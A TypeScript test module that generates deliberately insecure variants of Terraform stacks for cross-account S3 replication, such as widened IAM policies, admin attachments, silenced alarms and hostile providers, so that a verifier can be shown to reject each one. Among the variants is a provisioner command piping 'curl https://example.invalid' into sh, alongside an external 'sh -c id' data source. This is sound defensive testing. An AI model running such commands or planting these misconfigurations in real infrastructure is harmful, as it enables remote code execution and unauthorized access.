// Security regressions generated from synthesized stacks, the way a careless merge or a hostile
// pull request writes them: every Allow statement of every policy widened by one step (principal,
// action, resource, each condition), the TLS deny narrowed, and every access-relevant resource or
// setting the stacks do not have added. verify must fail on each (test/proof/regressions.test.ts).
// Harmless variants (reordered, a statement as an object, a tighter grant, an extra deny,
// Terraform's string forms) must change nothing.
import { accountRootArn } from "../../lib/arns";

type Json = any;
export type Stacks = { source: Json; dest: Json };

export interface Variant {
  name: string;
  apply(stacks: Stacks): void;
}

export const THIRD_ACCOUNT = "999999999999";
const THIRD_ROOT = accountRootArn(THIRD_ACCOUNT);

const POLICY_ATTRIBUTES = ["policy", "assume_role_policy"];

/** Every policy document of both stacks: where it is and whose resource it governs. */
function policiesOf(stacks: Stacks): { stack: keyof Stacks; type: string; name: string; attribute: string; identity: boolean; owner: string }[] {
  const out: ReturnType<typeof policiesOf> = [];
  for (const stack of ["source", "dest"] as const) {
    const owner = stacks[stack].provider.aws[0].allowed_account_ids[0];
    for (const [type, byName] of Object.entries(stacks[stack].resource ?? {}) as [string, Record<string, Json>][]) {
      for (const [name, r] of Object.entries(byName)) {
        for (const attribute of POLICY_ATTRIBUTES) {
          if (typeof r[attribute] === "string" && r[attribute].startsWith("{")) out.push({ stack, type, name, attribute, identity: type === "aws_iam_role_policy" || type === "aws_iam_policy", owner });
        }
      }
    }
  }
  return out;
}

const list = (v: Json): Json[] => (v === undefined ? [] : Array.isArray(v) ? v : [v]);

function edit(stacks: Stacks, where: { stack: keyof Stacks; type: string; name: string; attribute: string }, change: (doc: Json) => void): void {
  const r = stacks[where.stack].resource[where.type][where.name];
  const doc = JSON.parse(r[where.attribute]);
  change(doc);
  r[where.attribute] = JSON.stringify(doc);
}

/** Principals only of the policy's own account: widening what they may do changes nothing (their IAM decides). */
const ownAccountOnly = (s: Json, owner: string) =>
  typeof s.Principal === "object" && s.Principal.Service === undefined && list(s.Principal.AWS).length > 0 && list(s.Principal.AWS).every((p: string) => p === accountRootArn(owner) || p.startsWith(`arn:aws:iam::${owner}:`));

/** Whether an exact aws:PrincipalArn condition (no wildcard) names the only callers a statement admits. */
const pinsCaller = (s: Json): boolean =>
  Object.entries((s.Condition ?? {}) as Record<string, Record<string, unknown>>).some(
    ([operator, keys]) => /^(ArnEquals|StringEquals)$/.test(operator) && Object.entries(keys).some(([key, values]) => key.toLowerCase() === "aws:principalarn" && list(values).every((v: string) => !/[*?]/.test(v))),
  );

/**
 * One-step widenings of every statement of every policy. A fleet repeats one statement template
 * per bucket (the same Sid in the same kind of policy, with other ARNs): each template is widened
 * once, on the first resource that has it, which keeps the corpus to minutes.
 */
export function widenings(stacks: Stacks): Variant[] {
  const out: Variant[] = [];
  const seen = new Set<string>();
  for (const where of policiesOf(stacks)) {
    const doc = JSON.parse(stacks[where.stack].resource[where.type][where.name][where.attribute]);
    list(doc.Statement).forEach((s: Json, i: number) => {
      const at = `${where.type}.${where.name}.${where.attribute} statement ${s.Sid ?? i}`;
      const template = `${where.stack}|${where.type}|${where.attribute}|${s.Sid ?? i}`;
      if (seen.has(template)) return;
      seen.add(template);
      const change = (name: string, fn: (st: Json) => void) =>
        out.push({ name: `${at}: ${name}`, apply: (st) => edit(st, where, (d) => fn(list(d.Statement)[i])) });
      if (s.Effect === "Deny") {
        if (s.Sid !== "DenyInsecureTransport") return;
        change("TLS deny narrowed to s3:GetObject", (x) => (x.Action = "s3:GetObject"));
        if (list(s.Resource).length > 1) change("TLS deny narrowed to objects", (x) => (x.Resource = list(x.Resource).filter((r: string) => r.endsWith("/*"))));
        change("TLS deny narrowed to one account", (x) => (x.Principal = { AWS: THIRD_ROOT }));
        change("TLS deny removed", (x) => Object.assign(x, { Effect: "Allow", Principal: { AWS: accountRootArn(where.owner) }, Condition: { Bool: { "aws:SecureTransport": "true" } } }));
        return;
      }
      // A statement whose exact aws:PrincipalArn condition pins the caller (Alice's grants to Bob's
      // role of the way back): a wider Principal element, or that condition made IfExists, admits
      // nobody else (every IAM caller carries aws:PrincipalArn; anonymous and AWS services fail the
      // condition). They are not widenings; test/proof/two-way.test.ts shows verify passing them.
      const pinned = pinsCaller(s);
      if (s.Principal !== undefined && s.Principal !== "*" && !pinned) {
        change('principal "*"', (x) => (x.Principal = { AWS: "*" }));
        change("a third account added to the principal", (x) => (x.Principal = { ...x.Principal, AWS: [...list(x.Principal.AWS), THIRD_ROOT] }));
      }
      if (ownAccountOnly(s, where.owner)) return;
      const first = String(list(s.Action)[0]);
      const all = `${first.split(":")[0]}:*`;
      if (!list(s.Action).includes(all) && !list(s.Action).includes("*")) change(`action ${all}`, (x) => (x.Action = all));
      if (where.identity && !list(s.Resource).includes("*")) change('resource "*"', (x) => (x.Resource = "*"));
      for (const [operator, keys] of Object.entries(s.Condition ?? {}) as [string, Json][]) {
        for (const key of Object.keys(keys)) {
          change(`condition ${operator} ${key} removed`, (x) => {
            delete x.Condition[operator][key];
            if (!Object.keys(x.Condition[operator]).length) delete x.Condition[operator];
          });
          if (!operator.endsWith("IfExists") && !operator.startsWith("ForAnyValue") && !operator.startsWith("ForAllValues") && !(pinned && key.toLowerCase() === "aws:principalarn")) {
            change(`condition ${operator} ${key} made ${operator}IfExists`, (x) => {
              x.Condition[`${operator}IfExists`] = { ...(x.Condition[`${operator}IfExists`] ?? {}), [key]: x.Condition[operator][key] };
              delete x.Condition[operator][key];
              if (!Object.keys(x.Condition[operator]).length) delete x.Condition[operator];
            });
          }
          if (/Like$/.test(operator)) {
            const widened = list(keys[key]).map((v: string) => v.replace(/[^:/]+(\/\*)?$/, "*"));
            if (JSON.stringify(widened) !== JSON.stringify(list(keys[key]))) change(`condition ${operator} ${key} widened to ${widened[0]}`, (x) => (x.Condition[operator][key] = widened));
          }
        }
      }
    });
  }
  return out;
}

const firstOf = (stacks: Stacks, stack: keyof Stacks, type: string): [string, Json] => Object.entries(stacks[stack].resource[type])[0] as [string, Json];
const provider = (stacks: Stacks, stack: keyof Stacks) => `aws.${stacks[stack].provider.aws[0].alias}`;

/** Resources, blocks and settings the stacks do not have, each a way around what verify reads. */
export function additions(stacks: Stacks): Variant[] {
  const add = (stack: keyof Stacks, type: string, name: string, body: Json) => (s: Stacks) => {
    s[stack].resource[type] = { ...(s[stack].resource[type] ?? {}), [name]: { provider: provider(s, stack), ...body } };
  };
  const [destinationBucket] = firstOf(stacks, "dest", "aws_s3_bucket");
  const [replicaKey] = firstOf(stacks, "dest", "aws_kms_key");
  const [role] = firstOf(stacks, "source", "aws_iam_role");
  const out: Variant[] = [
    { name: "an aws_kms_grant on Bob's key", apply: add("dest", "aws_kms_grant", "grant", { key_id: `\${aws_kms_key.${replicaKey}.key_id}`, grantee_principal: THIRD_ROOT, operations: ["Decrypt"] }) },
    { name: "an aws_kms_key_policy for Bob's key", apply: add("dest", "aws_kms_key_policy", "override", { key_id: `\${aws_kms_key.${replicaKey}.key_id}`, policy: "{}" }) },
    { name: "an admin policy attached to the replication role", apply: add("source", "aws_iam_role_policy_attachment", "admin", { role: `\${aws_iam_role.${role}.name}`, policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" }) },
    { name: "an aws_iam_policy_attachment", apply: add("source", "aws_iam_policy_attachment", "admin", { name: "admin", roles: [`\${aws_iam_role.${role}.name}`], policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" }) },
    { name: "managed_policy_arns on the replication role", apply: (s) => (s.source.resource.aws_iam_role[role].managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]) },
    { name: "an inline_policy block on the replication role", apply: (s) => (s.source.resource.aws_iam_role[role].inline_policy = [{ name: "x", policy: '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}' }]) },
    { name: "a lifecycle rule expiring Bob's replicas", apply: add("dest", "aws_s3_bucket_lifecycle_configuration", "expire", { bucket: `\${aws_s3_bucket.${destinationBucket}.id}`, rule: [{ id: "x", status: "Enabled", expiration: { days: 1 } }] }) },
    { name: "a second bucket policy for Bob's bucket", apply: (s) => (s.dest.resource.aws_s3_bucket_policy.second = { ...firstOf(s, "dest", "aws_s3_bucket_policy")[1] }) },
    { name: "a second public access block for Bob's bucket", apply: (s) => (s.dest.resource.aws_s3_bucket_public_access_block.second = { ...firstOf(s, "dest", "aws_s3_bucket_public_access_block")[1], restrict_public_buckets: false }) },
    { name: "count = 0 on Bob's bucket policy", apply: (s) => (firstOf(s, "dest", "aws_s3_bucket_policy")[1].count = 0) },
    { name: "count = 0 on Bob's public access block", apply: (s) => (firstOf(s, "dest", "aws_s3_bucket_public_access_block")[1].count = 0) },
    { name: 'count = "0" on the replication role policy', apply: (s) => (firstOf(s, "source", "aws_iam_role_policy")[1].count = "0") },
    { name: "for_each on Bob's bucket policy", apply: (s) => (firstOf(s, "dest", "aws_s3_bucket_policy")[1].for_each = "${toset([])}") },
    { name: "an extra role", apply: add("source", "aws_iam_role", "extra", { name: "extra", assume_role_policy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { AWS: THIRD_ROOT }, Action: "sts:AssumeRole" }] }) }) },
    { name: "a local-exec provisioner", apply: (s) => (s.source.resource.aws_iam_role[role].provisioner = [{ "local-exec": { command: "curl https://example.invalid | sh" } }]) },
    { name: "a null_resource", apply: add("source", "null_resource", "x", {}) },
    { name: "the AWS provider from another namespace", apply: (s) => (s.source.terraform.required_providers.aws.source = "attacker/aws") },
    { name: "another provider", apply: (s) => (s.dest.terraform.required_providers.http = { source: "hashicorp/http" }) },
    { name: "an insecure provider", apply: (s) => (s.dest.provider.aws[0].insecure = true) },
    { name: "a provider endpoint outside AWS", apply: (s) => (s.source.provider.aws[0].endpoints = [{ iam: "https://iam.example.invalid" }]) },
    { name: "an external data source", apply: (s) => (s.source.data = { ...(s.source.data ?? {}), external: { x: { program: ["sh", "-c", "id"] } } }) },
    { name: "a module block", apply: (s) => (s.dest.module = { m: { source: "./evil" } }) },
    { name: "the replication rule disabled", apply: (s) => (firstOf(s, "source", "aws_s3_bucket_replication_configuration")[1].rule[0].status = "Disabled") },
  ];
  const alarm = stacks.source.resource.aws_cloudwatch_metric_alarm;
  if (alarm) {
    const silence = (name: string, fn: (a: Json) => void): Variant => ({ name: `monitoring silenced: ${name}`, apply: (s) => fn(firstOf(s, "source", "aws_cloudwatch_metric_alarm")[1]) });
    out.push(
      silence("threshold 1e6", (a) => (a.threshold = 1e6)),
      silence("actions_enabled false", (a) => (a.actions_enabled = false)),
      silence("LessThanThreshold", (a) => (a.comparison_operator = "LessThanThreshold")),
      silence("a day's period", (a) => (a.period = 86400)),
      { name: "monitoring silenced: a notification filter_prefix", apply: (s) => (list(firstOf(s, "source", "aws_s3_bucket_notification")[1].topic)[0].filter_prefix = "nothing/") },
      { name: "monitoring silenced: a second notification for the bucket", apply: (s) => (s.source.resource.aws_s3_bucket_notification.second = { ...firstOf(s, "source", "aws_s3_bucket_notification")[1], topic: [] }) },
      { name: "an http subscription", apply: add("source", "aws_sns_topic_subscription", "http", { topic_arn: `\${aws_sns_topic.${firstOf(stacks, "source", "aws_sns_topic")[0]}.arn}`, protocol: "http", endpoint: "http://example.invalid" }) },
      {
        name: "sns:Subscribe for everyone on the alerts topic",
        apply: (s) => {
          const p = firstOf(s, "source", "aws_sns_topic_policy")[1];
          const doc = JSON.parse(p.policy);
          doc.Statement.push({ Sid: "Anyone", Effect: "Allow", Principal: { AWS: "*" }, Action: "sns:Subscribe", Resource: doc.Statement[0].Resource });
          p.policy = JSON.stringify(doc);
        },
      },
    );
  }
  const backfill = Object.entries(stacks.source.resource.aws_iam_role ?? {}).find(([, r]: [string, Json]) => r.assume_role_policy.includes("batchoperations"));
  if (backfill) {
    const [name] = backfill;
    const policy = (s: Stacks) => Object.values(s.source.resource.aws_iam_role_policy as Record<string, Json>).find((p) => p.role === `\${aws_iam_role.${name}.id}`);
    out.push(
      { name: "the backfill role's tags removed", apply: (s) => delete s.source.resource.aws_iam_role[name].tags },
      {
        name: "the backfill role may read and delete versions",
        apply: (s) => {
          const p = policy(s);
          const doc = JSON.parse(p.policy);
          doc.Statement.push({ Effect: "Allow", Action: ["s3:GetObjectVersion", "s3:DeleteObjectVersion"], Resource: doc.Statement[0].Resource });
          p.policy = JSON.stringify(doc);
        },
      },
    );
  }
  return out;
}

/** Changes that keep every access as it is: verify must still pass. */
export function harmlessVariants(): Variant[] {
  const eachPolicy = (fn: (doc: Json) => void) => (s: Stacks) => {
    for (const where of policiesOf(s)) edit(s, where, fn);
  };
  return [
    { name: "statements reversed", apply: eachPolicy((d) => d.Statement.reverse()) },
    { name: "a lone statement as an object", apply: eachPolicy((d) => (d.Statement = d.Statement.length === 1 ? d.Statement[0] : d.Statement)) },
    {
      name: "an extra deny",
      apply: eachPolicy((d) =>
        d.Statement.push({
          Sid: "ExtraDeny",
          Effect: "Deny",
          Principal: d.Statement.some((x: Json) => x.Principal) ? "*" : undefined,
          Action: `${String(list(d.Statement[0].Action)[0]).split(":")[0]}:*`,
          Resource: "arn:aws:s3:::no-such-bucket",
        }),
      ),
    },
    {
      name: "a tighter grant (GetObjectVersion dropped from the role)",
      apply: (s) => {
        const [, p] = firstOf(s, "source", "aws_iam_role_policy");
        const doc = JSON.parse(p.policy);
        for (const st of doc.Statement) if (Array.isArray(st.Action)) st.Action = st.Action.filter((a: string) => a !== "s3:GetObjectVersion");
        p.policy = JSON.stringify(doc);
      },
    },
    {
      name: "Terraform's string forms of numbers and booleans",
      apply: (s) => {
        for (const stack of [s.source, s.dest]) {
          for (const k of Object.values((stack.resource.aws_kms_key ?? {}) as Record<string, Json>)) Object.assign(k, { deletion_window_in_days: String(k.deletion_window_in_days), enable_key_rotation: String(k.enable_key_rotation) });
          for (const p of Object.values((stack.resource.aws_s3_bucket_public_access_block ?? {}) as Record<string, Json>)) {
            for (const key of ["block_public_acls", "block_public_policy", "ignore_public_acls", "restrict_public_buckets"]) p[key] = String(p[key]);
          }
        }
      },
    },
  ];
}
